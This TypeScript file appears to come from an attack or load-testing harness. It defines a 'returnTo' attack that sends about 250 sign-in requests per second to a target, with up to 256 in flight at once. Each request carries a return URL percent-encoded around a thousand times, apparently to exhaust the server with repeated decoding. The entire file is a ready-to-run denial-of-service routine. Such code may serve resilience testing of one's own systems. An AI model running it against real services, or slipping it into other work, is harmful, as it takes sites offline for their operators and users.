import type { Attack } from '../attack.ts'
import { send } from '../connections.ts'

const everyMs = 4
const maxUnderWay = 256

/** 250 sign-ins a second that return to a URL which was encoded a thousand times. */
export const returnTo: Attack = {
  async run(target) {
    const body = JSON.stringify({ returnTo: `/%${'25'.repeat(1_023)}` })
    let underWay = 0
    setInterval(() => {
      if (underWay >= maxUnderWay) return
      underWay++
      void send(target, { operation: 'startLogin', body })
        .catch(() => {})
        .finally(() => underWay--)
    }, everyMs)
  },
}
